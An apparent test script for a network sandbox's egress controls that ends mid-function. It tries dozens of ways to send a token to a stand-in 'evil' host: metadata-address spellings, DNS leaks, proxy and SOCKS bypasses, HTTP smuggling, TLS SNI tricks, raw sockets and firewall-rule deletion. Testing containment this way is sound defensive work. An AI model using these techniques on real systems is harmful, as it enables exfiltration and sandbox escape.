"""What a command tries to reach that it may not: run as a program in the network of a World, bare or inside, it plays every
attack below, one after the other. Whether one got through is told by the servers outside (test_network_attacks.py), by its
token, or by where it came to.

Allowed inside are good.test at the ports 80 and 443, and nothing else. Bare there is a proxy without rules where Cordon's is
inside, and servers that forgive (tests/forgiving.py): an attack has to get through there by its own way.
"""
import ctypes
import os
import socket
import ssl
import struct
import subprocess
import sys

GOOD, EVIL = "11.0.0.1", "11.0.0.2"
METADATA = "169.254.169.254"
PROXY = ("127.0.0.1", 1008)
MPTCP, UDPLITE = 262, 136
ATTACKS = {}
OF_ROOT = {"raw_socket", "packets"}  # bare, nobody else can
WAIT = 2  # seconds; what is refused is refused at once


def attack(function):
    assert function.__name__ not in ATTACKS
    ATTACKS[function.__name__] = function
    return function


def many(name, values):
    """One attack for each value: a pair of a word for its name and the value."""
    def decorate(function):
        for word, value in values:
            def play(token, value=value):
                return function(token, value)
            play.__name__ = f"{name}_{word}"
            attack(play)
        return function
    return decorate


def connect(address, port, kind=socket.SOCK_STREAM, protocol=0):
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    sock = socket.socket(family, kind, protocol)
    sock.settimeout(WAIT)
    sock.connect((address, port))
    return sock


def finish(sock):
    """Until the server has had its say, so that it has taken note."""
    try:
        while sock.recv(65536):
            pass
    except OSError:
        pass
    sock.close()


def say(sock, data):
    sock.sendall(data)
    try:
        sock.shutdown(socket.SHUT_WR)
    except OSError:
        pass
    finish(sock)


def get(token, host=EVIL, extra=b""):
    return f"GET /{token} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n".encode() + extra + b"\r\n"


def by_proxy(data):
    say(connect(*PROXY), data)


def to_good(port=80):
    """As a program that knows of nothing."""
    return socket.create_connection(("good.test", port), WAIT)


# -- by number

@many("number", [("ip4", EVIL), ("ip6", "2a00::2"), ("mapped", "::ffff:11.0.0.2"), ("of_the_good", GOOD),
                 ("private", "10.0.0.1"), ("private_16", "192.168.1.1"), ("metadata", METADATA),
                 ("metadata_mapped", "::ffff:a9fe:a9fe"), ("zero", "0.0.0.0"), ("zero6", "::"),
                 ("loopback", "127.0.0.1"), ("loopback_other", "127.1.2.3"), ("loopback6", "::1"),
                 ("loopback_mapped", "::ffff:127.0.0.1"),
                 ("of_the_host", "12.0.0.1"), ("of_the_host6", "2a01::1")])
def number(token, address):
    say(connect(address, 80), get(token))


@many("spelled", [("decimal", "184549378"), ("hex", "0x0b000002"), ("hex_parts", "0xb.0x0.0x0.0x2"),
                  ("octal", "013.0.0.2"), ("short", "11.2"), ("shorter", "11.0.2"),
                  ("mapped", "::ffff:b00:2"), ("long_six", "2a00:0:0:0:0:0:0:2"),
                  ("meta_decimal", "2852039166"), ("meta_hex", "0xa9fea9fe"),
                  ("meta_octal", "0251.0376.0251.0376"), ("meta_short", "169.254.43518"),
                  ("meta_shorter", "169.16689662"), ("meta_mixed", "169.0xfe.0251.254"),
                  ("meta_mapped", "::ffff:169.254.169.254"), ("meta_name", "metadata.test"),
                  ("localhost", "localhost"), ("private_name", "inside.test"),
                  ("mixed_name", "mixed.test"), ("hosts_file", "hosts.test")])
def spelled(token, name):
    say(socket.create_connection((name, 80), WAIT), get(token))


@many("port", [("8080", 8080)])
def port(token, number):
    say(to_good(number), get(token, "good.test"))


@many("silent_port", [("7", 7), ("22", 22), ("5432", 5432)])
def silent_port(token, number):
    say(to_good(number), token.encode())


# -- by other sockets and calls

@attack
def mptcp(token):
    say(connect(EVIL, 80, protocol=MPTCP), get(token))


@attack
def fast_open(token):
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    sock.sendto(get(token), socket.MSG_FASTOPEN, (EVIL, 80))
    finish(sock)


@attack
def not_blocking(token):
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    sock.setblocking(False)
    sock.connect_ex((EVIL, 80))
    sock.settimeout(WAIT)
    say(sock, get(token))


@attack
def bound_first(token):
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    sock.settimeout(WAIT)
    sock.bind(("0.0.0.0", 0))
    sock.connect((EVIL, 80))
    say(sock, get(token))


@attack
def bound_to_a_device(token):
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    sock.settimeout(WAIT)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"lo\0")
    sock.connect((EVIL, 80))
    say(sock, get(token))


@attack
def connected_twice(token):
    """First to where it may."""
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    sock.settimeout(WAIT)
    sock.connect(("127.0.0.1", listener_of_ours()))
    libc = ctypes.CDLL(None, use_errno=True)
    nothing = struct.pack("=H14x", socket.AF_UNSPEC)
    libc.connect(sock.fileno(), nothing, len(nothing))
    sock.connect((EVIL, 80))
    say(sock, get(token))


def listener_of_ours():
    sock = socket.create_server(("127.0.0.1", 0))
    listener_of_ours.kept = sock
    return sock.getsockname()[1]


@attack
def options_of_the_route(token):
    """A loose source route by way of the good one."""
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    sock.settimeout(WAIT)
    try:
        sock.setsockopt(socket.IPPROTO_IP, socket.IP_OPTIONS, b"\x83\x07\x04" + socket.inet_aton(GOOD) + b"\0")
    except OSError:
        pass
    try:
        sock.connect((EVIL, 80))
    except OSError:
        sock = connect(EVIL, 80)
    say(sock, get(token))


@many("datagram", [("echo", (EVIL, 7)), ("echo6", ("2a00::2", 7)), ("quic", (GOOD, 443)),
                   ("loopback", ("127.0.0.1", 7)), ("loopback6", ("::1", 7))])
def datagram(token, where):
    family = socket.AF_INET6 if ":" in where[0] else socket.AF_INET
    sock = socket.socket(family, socket.SOCK_DGRAM)
    sock.settimeout(0.2)
    sock.sendto(token.encode(), where)
    finish_datagram(sock)


def finish_datagram(sock):
    try:
        sock.recv(100)
    except OSError:
        pass
    sock.close()


@attack
def datagram_connected(token):
    sock = connect(EVIL, 7, socket.SOCK_DGRAM)
    sock.settimeout(0.2)
    sock.send(token.encode())
    finish_datagram(sock)


@attack
def datagram_message(token):
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.settimeout(0.2)
    sock.sendmsg([token.encode()], [], 0, (EVIL, 7))
    finish_datagram(sock)


@attack
def datagram_from_a_chosen_address(token):
    """IP_PKTINFO says where it is to leave from."""
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.settimeout(0.2)
    info = struct.pack("=I4s4s", 0, b"\0" * 4, b"\0" * 4)
    sock.sendmsg([token.encode()], [(socket.IPPROTO_IP, 8, info)], 0, (EVIL, 7))
    finish_datagram(sock)


# -- names: to look one up says something to whoever has its zone

@many("look_up", [("unknown", "{token}.evil.test"), ("below_the_good", "{token}.good.test"),
                  ("long", "{token}." + "a" * 60 + ".evil.test"), ("case", "{token}.EVIL.test"),
                  ("single", "{token}")])
def look_up(token, name):
    socket.getaddrinfo(name.format(token=token), 80)


def question(token, kind=1, zone="evil.test", more=b""):
    labels = b"".join(bytes([len(label)]) + label.encode() for label in f"{token}.{zone}".split("."))
    return struct.pack(">HHHHHH", 7, 0x100, 1, 0, 0, 1 if more else 0) + labels + b"\0" + struct.pack(">HH", kind, 1) + more


@many("ask", [("resolver", "127.0.0.1"), ("good", GOOD), ("evil", EVIL), ("private", "10.0.0.1"),
              ("loopback_other", "127.0.0.53"), ("six", "2a00::2"), ("own_six", "::1")])
def ask(token, server):
    family = socket.AF_INET6 if ":" in server else socket.AF_INET
    sock = socket.socket(family, socket.SOCK_DGRAM)
    sock.settimeout(0.5)
    sock.sendto(question(token), (server, 53))
    finish_datagram(sock)


@many("ask_by_tcp", [("good", GOOD), ("evil", EVIL), ("resolver", "127.0.0.1")])
def ask_by_tcp(token, server):
    data = question(token)
    say(connect(server, 53), struct.pack(">H", len(data)) + data)


@many("ask_for", [("txt", 16), ("any", 255), ("https", 65), ("srv", 33), ("mx", 15), ("null", 10), ("ptr", 12)])
def ask_for(token, kind):
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.settimeout(0.5)
    sock.sendto(question(token, kind), ("127.0.0.1", 53))
    finish_datagram(sock)


@attack
def ask_with_an_option(token):
    """EDNS has room for anything."""
    option = struct.pack(">HH", 65001, len(token)) + token.encode()
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.settimeout(0.5)
    sock.sendto(question(token, more=b"\0" + struct.pack(">HHIH", 41, 1232, 0, len(option)) + option), ("127.0.0.1", 53))
    finish_datagram(sock)


@attack
def two_questions(token):
    """The server answers the first; and then one of its own."""
    data = question("good", zone="test") + question(token)[12:]
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.settimeout(0.5)
    sock.sendto(data[:4] + struct.pack(">H", 1) + data[6:], ("127.0.0.1", 53))
    finish_datagram(sock)
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.settimeout(0.5)
    sock.sendto(question(token), (EVIL, 53))
    finish_datagram(sock)


# -- the proxy, asked in its own languages

@many("absolute", [("evil", "http://evil.test/{}"), ("number", f"http://{EVIL}/{{}}"), ("six", "http://[2a00::2]/{}"),
                   ("port", "http://good.test:8080/{}"), ("dot", "http://evil.test./{}"),
                   ("upper", "http://EVIL.TEST/{}"), ("metadata", f"http://{METADATA}/{{}}"),
                   ("decimal", "http://184549378/{}"), ("meta_decimal", "http://2852039166/{}"),
                   ("meta_hex", "http://0xa9fea9fe/{}"), ("meta_octal", "http://0251.0376.0251.0376/{}"),
                   ("meta_six", "http://[::ffff:169.254.169.254]/{}"), ("meta_dot", "http://169.254.169.254./{}"),
                   ("localhost", "http://localhost/{}"), ("loopback", "http://127.0.0.1/{}"),
                   ("loopback_dot", "http://localhost./{}"), ("zero", "http://0/{}"),
                   ("zone", "http://[fe80::1%25lo]/{}"),
                   ("user", "http://good.test@evil.test/{}"), ("user_port", "http://good.test:80@evil.test/{}"),
                   ("percent", "http://%65vil.test/{}"), ("backslash", "http://evil.test\\@good.test/{}")])
def absolute(token, url):
    host = url.split("/")[2]
    by_proxy(f"GET {url.format(token)} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n".encode())


@many("forward", [("two_hosts", b"Host: good.test\r\nHost: evil.test\r\n"), ("no_host", b""),
                  ("other_host", b"Host: evil.test\r\n"), ("folded", b"Host: good.test\r\n evil.test\r\n"),
                  ("spaced", b"Host : evil.test\r\nHost: good.test\r\n"), ("bare_lf", b"Host: good.test\nHost: evil.test\r\n"),
                  ("forwarded", b"Host: good.test\r\nX-Forwarded-Host: evil.test\r\n"),
                  ("nul", b"Host: evil.test\0.good.test\r\n")])
def forward(token, host):
    """The target is the good one; where it goes may only be that."""
    by_proxy(f"GET http://good.test/{token}-is-fine HTTP/1.1\r\n".encode() + host + b"Connection: close\r\n\r\n")
    by_proxy(f"GET http://evil.test/{token} HTTP/1.1\r\n".encode() + host + b"Connection: close\r\n\r\n")


def tunnel(token, target, inner):
    sock = connect(*PROXY)
    sock.sendall(f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n".encode())
    if sock.recv(1000).startswith(b"HTTP/1.1 200"):
        return say(sock, inner)
    return sock.close()


@many("tunnel", [("evil", "evil.test:80"), ("number", f"{EVIL}:80"), ("port", "good.test:8080"), ("six", "[2a00::2]:80"),
                 ("metadata", f"{METADATA}:80"), ("decimal", "184549378:80"), ("loopback", "127.0.0.1:80"),
                 ("dot", "evil.test.:80"), ("user", "good.test:80@evil.test:80"), ("no_port", "evil.test"),
                 ("port_twice", "good.test:80:80"), ("port_wraps", "evil.test:65616"), ("space", "evil.test :80"),
                 ("itself", "127.0.0.1:1008"), ("private", "inside.test:80")])
def tunnelled(token, target):
    tunnel(token, target, get(token))


@attack
def tunnel_in_a_tunnel(token):
    tunnel(token, "127.0.0.1:1008", b"CONNECT evil.test:80 HTTP/1.1\r\nHost: evil.test:80\r\n\r\n" + get(token))


@many("tunnel_fronts", [("host", get("{}", "evil.test")), ("absolute", b"GET http://evil.test/{} HTTP/1.1\r\nHost: evil.test\r\nConnection: close\r\n\r\n")])
def tunnel_fronts(token, data):
    """The tunnel is to the good one, what is asked for in it is not."""
    tunnel(token, "good.test:80", data.replace(b"{}", token.encode()))


SOCKS_HELLO = b"\5\1\0"


def socks(address, port=80):
    return b"\5\1\0" + address + struct.pack(">H", port)


def socks_name(name):
    return b"\3" + bytes([len(name)]) + name


@many("socks", [("evil", socks_name(b"evil.test")), ("number", b"\1" + socket.inet_aton(EVIL)),
                ("six", b"\4" + socket.inet_pton(socket.AF_INET6, "2a00::2")),
                ("mapped", b"\4" + socket.inet_pton(socket.AF_INET6, "::ffff:11.0.0.2")),
                ("metadata", b"\1" + socket.inet_aton(METADATA)), ("metadata_name", socks_name(METADATA.encode())),
                ("decimal", socks_name(b"184549378")), ("nul", socks_name(b"evil.test\0.good.test")),
                ("nul_first", socks_name(b"good.test\0evil.test")), ("loopback", b"\1" + socket.inet_aton("127.0.0.1")),
                ("localhost", socks_name(b"localhost")), ("dot", socks_name(b"evil.test.")),
                ("line", socks_name(b"evil.test\r\n"))])
def by_socks(token, address):
    sock = connect(*PROXY)
    sock.sendall(SOCKS_HELLO)
    sock.recv(2)
    sock.sendall(socks(address))
    if sock.recv(100)[1:2] == b"\0":
        return say(sock, get(token))
    return sock.close()


@attack
def socks_of_an_older_kind(token):
    by_proxy(b"\4\1" + struct.pack(">H", 80) + socket.inet_aton(EVIL) + b"x\0" + get(token))


# -- the good server, asked for another one's pages: it has them, too

@many("fronted", [
    ("host", b"GET /{} HTTP/1.1\r\nHost: evil.test\r\nConnection: close\r\n\r\n"),
    ("absolute", b"GET http://evil.test/{} HTTP/1.1\r\nHost: evil.test\r\nConnection: close\r\n\r\n"),
    ("upper", b"GET /{} HTTP/1.1\r\nHOST: EVIL.TEST\r\nConnection: close\r\n\r\n"),
    ("port", b"GET /{} HTTP/1.1\r\nHost: evil.test:80\r\nConnection: close\r\n\r\n"),
    ("second", b"GET /first HTTP/1.1\r\nHost: good.test\r\n\r\nGET /{} HTTP/1.1\r\nHost: evil.test\r\nConnection: close\r\n\r\n"),
    ("behind_a_body", b"POST /first HTTP/1.1\r\nHost: good.test\r\nContent-Length: 3\r\n\r\nabcGET /{} HTTP/1.1\r\nHost: evil.test\r\nConnection: close\r\n\r\n"),
    ("behind_two_lengths", b"POST /first HTTP/1.1\r\nHost: good.test\r\nContent-Length: 0\r\nContent-Length: 70\r\n\r\nGET /{} HTTP/1.1\r\nHost: evil.test\r\nConnection: close\r\n\r\n"),
    ("behind_a_lie", b"POST /first HTTP/1.1\r\nHost: good.test\r\nContent-Length: 0\r\nTransfer-Encoding: chunked\r\n\r\nGET /{} HTTP/1.1\r\nHost: evil.test\r\nConnection: close\r\n\r\n"),
    ("behind_an_upgrade", b"GET /first HTTP/1.1\r\nHost: good.test\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\nGET /{} HTTP/1.1\r\nHost: evil.test\r\nConnection: close\r\n\r\n"),
    ("with_line_feeds", b"GET /{} HTTP/1.1\nHost: evil.test\nConnection: close\n\n"),
    ("with_a_space", b"GET  /{} HTTP/1.1\r\nHost: evil.test\r\nConnection: close\r\n\r\n"),
    ("with_http_1_0", b"GET /{} HTTP/1.0\r\nHost: evil.test\r\n\r\n"),
    ("by_option", b"OPTIONS /{} HTTP/1.1\r\nHost: evil.test\r\nConnection: close\r\n\r\n"),
    ("with_long_fields", b"GET /{} HTTP/1.1\r\nX: " + b"x" * 9000 + b"\r\nHost: evil.test\r\nConnection: close\r\n\r\n"),
])
def fronted(token, data):
    sock = to_good()
    say(sock, data.replace(b"{}", token.encode()))


@attack
def fronted_byte_by_byte(token):
    sock = to_good()
    sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    for byte in f"GET /{token} HTTP/1.1\r\nHost: evil.test\r\nConnection: close\r\n\r\n".encode():
        sock.sendall(bytes([byte]))
    finish(sock)


def hello(name):
    """What a client of TLS says first."""
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    wrapped = context.wrap_bio(incoming, outgoing, server_hostname=name)
    try:
        wrapped.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return wrapped, incoming, outgoing


def shake(sock, name, cut=None):
    """TLS to the end of a request, with the first message in pieces or records as `cut` makes them."""
    wrapped, incoming, outgoing = hello(name)
    first = outgoing.read()
    for part in cut(first) if cut else [first]:
        sock.sendall(part)
    while True:
        try:
            wrapped.do_handshake()
            break
        except ssl.SSLWantReadError:
            sock.sendall(outgoing.read())
            data = sock.recv(65536)
            if not data:
                return sock.close()
            incoming.write(data)
    wrapped.write(f"GET /{name} HTTP/1.1\r\nHost: {name}\r\nConnection: close\r\n\r\n".encode())
    sock.sendall(outgoing.read())
    return finish(sock)


def in_records(size):
    """The same message in records of so many bytes."""
    def cut(first):
        body = first[5:]
        parts = [body[at:at + size] for at in range(0, len(body), size)]
        return [b"".join(first[:3] + struct.pack(">H", len(part)) + part for part in parts)]
    return cut


@many("server_name", [("of_another", None), ("in_pieces", lambda first: [first[at:at + 7] for at in range(0, len(first), 7)]),
                      ("in_records", in_records(40)), ("in_two_records", in_records(6))])
def server_name(token, cut):
    shake(to_good(443), f"{token}.evil.test", cut)


def client_hello(names, version=b"\3\3", kind=0):
    """By hand, with a name list for each of `names`."""
    def part(size, data):
        return len(data).to_bytes(size, "big") + data

    def extension(number, data):
        return struct.pack(">H", number) + part(2, data)

    lists = [extension(0, part(2, b"".join(bytes([kind]) + part(2, name) for name in one))) for one in names]
    groups = extension(10, part(2, b"\0\x17\0\x1d")) + extension(13, part(2, b"\4\3\4\1\2\1")) + extension(11, b"\1\0")
    body = (version + b"r" * 32 + part(1, b"") + part(2, b"\xc0\x2b\xc0\x2f\0\x2f") + part(1, b"\0")
            + part(2, b"".join(lists) + groups))
    return b"\x16\3\1" + part(2, b"\1" + part(3, body))


EMPTY_RECORD, WARNING, CHANGE = b"\x17\3\3\0\0", b"\x15\3\1\0\2\1\x5a", b"\x14\3\3\0\1\1"


@many("hello", [("twice", lambda name: client_hello([[b"good.test"], [name]])),
                ("two_names", lambda name: client_hello([[b"good.test", name]])),
                ("of_1_0", lambda name: client_hello([[name]], b"\3\1")),
                ("of_ssl3", lambda name: client_hello([[name]], b"\3\0")),
                ("other_kind", lambda name: client_hello([[name]], kind=1)),
                ("with_nul", lambda name: client_hello([[b"good.test\0." + name]])),
                ("with_space", lambda name: client_hello([[b"good.test " + name]])),
                ("with_dot", lambda name: client_hello([[name + b"."]])),
                ("behind_a_warning", lambda name: WARNING + client_hello([[name]])),
                ("behind_nothing", lambda name: EMPTY_RECORD + client_hello([[name]])),
                ("behind_an_empty_one", lambda name: b"\x16\3\1\0\0" + client_hello([[name]])),
                ("behind_a_change", lambda name: CHANGE + client_hello([[name]])),
                ("not_whole", lambda name: client_hello([[name]])[:-3])])
def hello_by_hand(token, make):
    """It is enough that the server hears it."""
    say(to_good(443), make(f"{token}.evil.test".encode()))


@attack
def hello_behind_a_warning_goes_on(token):
    """A server forgives a warning before the first message: the name behind it is the one that counts."""
    shake(to_good(443), f"{token}.evil.test", lambda first: [WARNING + first])


@many("tunnel_says", [("hello", b"CONNECT good.test:443 HTTP/1.1\r\nHost: good.test:443\r\n\r\n"),
                      ("hello_by_socks", SOCKS_HELLO + socks(socks_name(b"good.test"), 443))])
def tunnel_says(token, ask):
    """The tunnel is to the good one, the hello in it names another."""
    sock = connect(*PROXY)
    sock.sendall(ask)
    got = 0
    while got < (12 if ask[0] == 5 else 1) and (answer := sock.recv(1000)):
        got += len(answer)
    shake(sock, f"{token}.evil.test")


def after(first, second):
    """A second request of the same connection."""
    return first + b" HTTP/1.1\r\nHost: good.test\r\n\r\n" + second + b"Connection: close\r\n\r\n"


@many("then", [("absolute", b"GET http://evil.test/{} HTTP/1.1\r\nHost: evil.test\r\n"),
               ("relative", b"GET /{} HTTP/1.1\r\nHost: evil.test\r\n"),
               ("host", b"GET http://good.test/{} HTTP/1.1\r\nHost: evil.test\r\nHost: evil.test\r\n"),
               ("number", b"GET http://11.0.0.2/{} HTTP/1.1\r\nHost: 11.0.0.2\r\n")])
def then(token, second):
    """A connection of the proxy is judged anew with each request."""
    by_proxy(after(b"GET http://good.test/first", second.replace(b"{}", token.encode())))


@attack
def then_a_tunnel(token):
    by_proxy(b"GET http://good.test/first HTTP/1.1\r\nHost: good.test\r\n\r\n"
             b"CONNECT evil.test:80 HTTP/1.1\r\nHost: evil.test:80\r\n\r\n" + get(token))


CHUNKED = b"POST /first HTTP/1.1\r\nHost: good.test\r\nTransfer-Encoding: chunked\r\n\r\n"
SECOND = b"GET /{} HTTP/1.1\r\nHost: evil.test\r\nConnection: close\r\n\r\n"


@many("chunk", [("end", b"0\r\n\r\n"), ("plus", b"+0\r\n\r\n"), ("minus", b"-0\r\n\r\n"), ("hex", b"0x0\r\n\r\n"),
                ("spaces", b" 0 \r\n\r\n"), ("score", b"0_0\r\n\r\n"), ("zeros", b"0" * 40 + b"\r\n\r\n"),
                ("feeds", b"0\n\n"), ("hex_long", b"0x2\r\nab\r\n0\r\n\r\n"), ("score_long", b"0_2\r\nab\r\n0\r\n\r\n"),
                ("wraps", b"10000000000000000\r\n0\r\n\r\n"), ("extension", b"0;a=b\r\n\r\n"),
                ("extension_feed", b"0;a\nb\r\n\r\n"), ("extension_long", b"0;" + b"a" * 9000 + b"\r\n\r\n"),
                ("trailer", b"0\r\nHost: evil.test\r\n\r\n"), ("size_short", b"1\r\nab\r\n0\r\n\r\n")])
def chunk(token, body):
    """Where the first one ends is not where a forgiving server thinks."""
    say(to_good(), CHUNKED + body + SECOND.replace(b"{}", token.encode()))


@many("framed", [("coding_twice", b"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n"),
                 ("coding_list", b"Transfer-Encoding: chunked, identity\r\n"),
                 ("coding_x", b"Transfer-Encoding: xchunked\r\n"), ("coding_tab", b"Transfer-Encoding:\x0bchunked\r\n"),
                 ("coding_space", b"Transfer-Encoding : chunked\r\n"), ("coding_quoted", b'Transfer-Encoding: "chunked"\r\n'),
                 ("coding_folded", b"Transfer-Encoding:\r\n chunked\r\n"), ("coding_obs", b"Transfer-Encoding: \xa0chunked\r\n"),
                 ("length_plus", b"Content-Length: +5\r\n"), ("length_list", b"Content-Length: 5, 70\r\n"),
                 ("length_space", b"Content-Length : 5\r\n"), ("length_minus", b"Content-Length: -1\r\n"),
                 ("length_return", b"X: a\rContent-Length: 70\r\n")])
def framed(token, fields):
    say(to_good(), b"POST /first HTTP/1.1\r\nHost: good.test\r\n" + fields + b"\r\n0\r\n\r\n" + SECOND.replace(b"{}", token.encode()))


@many("split", [("return", b"X: a\rHost: evil.test\r\n"), ("nel", b"X: a\xc2\x85Host: evil.test\r\n"), ("obs", b"X: a\x85Host: evil.test\r\n"),
                ("separator", b"X: a\xe2\x80\xa8Host: evil.test\r\n"), ("form", b"X: a\x0cHost: evil.test\r\n"),
                ("vertical", b"X: a\x0bHost: evil.test\r\n"), ("unit", b"X: a\x1cHost: evil.test\r\n"),
                ("nul", b"X: a\0Host: evil.test\r\n"), ("no_colon", b"Host evil.test\r\n"), ("before", b" Host: evil.test\r\n")])
def split(token, field):
    """What some servers take for the end of a line. The first event tells which host that server understood."""
    say(to_good(), f"GET /{token}-asks HTTP/1.1\r\n".encode() + field + b"Host: good.test\r\nConnection: close\r\n\r\n")


@many("line", [("obs", b"GET /{}\x85HTTP/1.1\r\nHost: evil.test\r\n\r\n"), ("tab", b"GET\t/{}\tHTTP/1.1\r\nHost: evil.test\r\n\r\n"),
               ("feed_first", b"\r\nGET /{} HTTP/1.1\r\nHost: evil.test\r\n\r\n"), ("form", b"GET\x0c/{}\x0cHTTP/1.1\r\nHost: evil.test\r\n\r\n"),
               ("old", b"GET /{}\r\n"), ("lower", b"get /{} http/1.1\r\nhost: evil.test\r\n\r\n"), ("high", b"GET /{} HTTP/1.9\r\nHost: evil.test\r\n\r\n")])
def line(token, data):
    say(to_good(), data.replace(b"{}", token.encode()))


@attack
def http2_without_asking(token):
    """Who is asked is written in a way of its own."""
    path = f"/{token}".encode()
    fields = b"\x82\x86\x44" + bytes([len(path)]) + path + b"\x41\x09evil.test"
    data = (b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\0\0\0\4\0\0\0\0\0" + struct.pack(">I", len(fields))[1:] + b"\1\5\0\0\0\1" + fields)
    say(to_good(), data)


@many("pool", [("first", "198.18.0.1"), ("second", "198.18.0.2"), ("zero", "198.18.0.0"), ("last", "198.19.255.255"),
               ("mapped", "::ffff:198.18.0.2")])
def pool(token, address):
    """An address that nobody was given, or is the good one's, with another's pages."""
    for port in (80, 443, 8080):
        try:
            say(connect(address, port), get(token))
        except OSError:
            pass
    tunnel(token, f"{address}:80", get(token))


@many("itself", [("six", ("::1", 1008)), ("other", ("127.9.9.9", 1008)), ("number", (EVIL, 1008)), ("dns", ("127.0.0.1", 1009))])
def itself(token, where):
    """Where it listens, by other ways, and what listens beside it."""
    for data in (b"GET http://evil.test/" + token.encode() + b" HTTP/1.1\r\nHost: evil.test\r\n\r\n", question(token)):
        try:
            say(connect(*where), data)
            sock = connect(*where, socket.SOCK_DGRAM)
            sock.settimeout(0.1)
            sock.send(data)
            finish_datagram(sock)
        except OSError:
            pass


@attack
def socks_resolves(token):
    """As Tor's does."""
    by_proxy(SOCKS_HELLO + bytes([5, 0xf0, 0]) + socks_name(f"{token}.evil.test".encode()) + b"\0\7")


@attack
def socks_associates(token):
    """A relay for datagrams."""
    sock = connect(*PROXY)
    sock.sendall(SOCKS_HELLO)
    sock.recv(2)
    sock.sendall(b"\5\3\0\1" + bytes(6))
    answer = sock.recv(10)
    relay = connect(socket.inet_ntoa(answer[4:8]), *struct.unpack(">H", answer[8:10]), socket.SOCK_DGRAM)
    relay.settimeout(0.5)
    relay.send(b"\0\0\0\1" + socket.inet_aton(EVIL) + b"\0\7" + token.encode())
    finish_datagram(relay)
    finish(sock)


@attack
def ask_by_tcp_behind_the_good(token):
    """Both questions in one segment."""
    parts = [question("good", zone="test"), question(token)]
    say(connect(EVIL, 53), b"".join(struct.pack(">H", len(part)) + part for part in parts))


@many("ask_oddly", [("subnet", struct.pack(">HHIH", 41, 1232, 0, 12) + b"\0\x08\0\x08\0\1\x20\0\x0b\0\0\2"),
                    ("dnssec", struct.pack(">HHIH", 41, 1232, 0x8000, 0))])
def ask_oddly(token, option):
    sock = connect("127.0.0.1", 53, socket.SOCK_DGRAM)
    sock.settimeout(0.5)
    sock.send(question(token, more=b"\0" + option))
    finish_datagram(sock)


@many("unix", [("abstract", b"\0world"), ("path", os.path.join(os.path.dirname(sys.argv[0]), "world/sock"))])
def unix(token, name):
    """A server of the host, which would say it to anybody."""
    sock = socket.socket(socket.AF_UNIX)
    sock.settimeout(WAIT)
    sock.connect(name)
    say(sock, token.encode())


def datagram_of_the_wire(token):
    payload = token.encode()
    return struct.pack(">HHHH", 1234, 7, 8 + len(payload), 0) + payload


@attack
def raw_socket(token):
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP)
    sock.sendto(datagram_of_the_wire(token), (EVIL, 0))


@attack
def packets(token):
    """A whole frame to the device, from somewhere else."""
    udp = datagram_of_the_wire(token)
    head = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 1, 0, 64, 17, 0, bytes(4 * [9]), socket.inet_aton(EVIL))
    total = sum(struct.unpack(">10H", head))
    head = head[:10] + struct.pack(">H", ~(total + (total >> 16)) & 0xffff) + head[12:]
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, 0x0800)
    sock.sendto(head + udp, ("lo", 0x0800))


@attack
def reset_before_the_first_byte(token):
    """Many that end before they are judged; what comes behind is judged as ever."""
    for _ in range(200):
        sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        sock.setblocking(False)
        sock.connect_ex((EVIL, 80))
        sock.close()
    say(connect(EVIL, 80), get(token))


@attack
def from_a_port_that_was_allowed(token):
    """The same port of ours, first to the good one and then to another."""
    port = 0
    for address in (socket.gethostbyname("good.test"), EVIL):
        sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        sock.settimeout(WAIT)
        sock.bind(("0.0.0.0", port))
        sock.connect((address, 80))
        port = sock.getsockname()[1]
        if address == EVIL:
            say(sock, get(token))
        sock.close()


# -- the walls

def run(*argv):
    try:
        subprocess.run(argv, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, timeout=10)
    except (OSError, subprocess.TimeoutExpired):
        pass


@many("without", [("rules", ["nft", "delete", "table", "inet", "cordon"]), ("any_rules", ["iptables", "-t", "nat", "-N", "x"]),
                  ("routes", ["ip", "route", "del", "local", "default", "dev", "lo"]),
                  ("the_device", ["ip", "address", "add", "203.0.113.9/32", "dev", "lo"]),
                  ("its_namespace", ["unshare", "-Urn", "true"])])
def without(token, argv):
    """What is around the network is changed first."""
    run(*argv)
    say(connect(EVIL, 80), get(token))


@many("enter", [("init", 1), ("parent", 0)])
def enter(token, pid):
    """The network of another process."""
    if pid and os.path.exists("/proc/1/ns/net"):
        child = f"nsenter --net=/proc/{pid or os.getppid()}/ns/net "
